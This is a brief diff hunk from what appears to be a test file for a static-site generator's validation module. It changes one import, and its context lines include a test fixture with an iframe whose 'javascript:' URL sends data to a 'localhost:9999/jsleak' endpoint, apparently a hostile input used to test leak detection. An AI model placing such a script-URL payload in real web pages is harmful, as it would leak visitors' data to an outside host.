@@ -36,7 +36,7 @@ from ivsite.markup.referrers import SAFE_POLICIES
 from ivsite.markup.scripturls import script_urls
 from ivsite.pipeline import Result, build
 from ivsite.validate import bodyprivacy
-from ivsite.validate import stage as validate
+from ivsite.validate import note as validate
 
 SHARING = 'title = "Site"\nbase_url = "https://example.org/"\n\n[share]\nenabled = true\n'
 K1_IFRAME = ("<iframe src=\"javascript:void(new Image().src='http://localhost:9999/jsleak?u='"
